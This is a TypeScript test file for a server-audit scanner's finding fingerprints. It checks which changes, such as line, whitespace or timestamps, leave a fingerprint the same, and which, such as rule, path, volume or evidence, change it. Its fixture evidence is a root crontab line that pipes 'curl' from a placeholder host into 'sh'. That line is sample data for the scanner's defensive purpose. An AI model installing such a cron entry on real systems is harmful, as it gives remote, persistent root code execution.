/**
 * The finding fingerprint SARIF and `minescan diff` share: what may change between two
 * audits of one server without making a finding another one (its line, whitespace,
 * the file's times in the evidence, the clipping mark), and what does (rule, path,
 * volume, the evidence itself).
 */
import { describe, expect, it } from 'vitest';
import { fingerprint, normaliseEvidence } from '../../src/report/fingerprint.js';

const base = { rule: 'cron.x', path: '/etc/crontab', evidence: '*/5 * * * * root curl http://x | sh' };

describe('finding fingerprints', () => {
  it('ignore the line, whitespace runs, times and the clipping mark', () => {
    expect(fingerprint({ ...base, line: 3 } as typeof base)).toBe(fingerprint({ ...base, line: 9 } as typeof base));
    expect(fingerprint({ ...base, evidence: '*/5  *\t* * *   root curl http://x | sh ' })).toBe(fingerprint(base));
    expect(normaliseEvidence('file, 31 bytes, modified 2026-11-03T01:02:03.000Z')).toBe(normaliseEvidence('file, 31 bytes, modified 2027-01-01T00:00:00Z'));
    expect(normaliseEvidence('a\\nb…')).toBe('a b');
  });

  it('tell apart rule, path, volume and evidence', () => {
    const one = fingerprint(base);
    expect(fingerprint({ ...base, rule: 'cron.y' })).not.toBe(one);
    expect(fingerprint({ ...base, path: '/etc/cron.d/x' })).not.toBe(one);
    expect(fingerprint({ ...base, volume: 1 })).not.toBe(one);
    expect(fingerprint({ ...base, evidence: '*/5 * * * * root curl http://y | sh' })).not.toBe(one);
    expect(one).toMatch(/^[0-9a-f]{64}$/);
  });
});
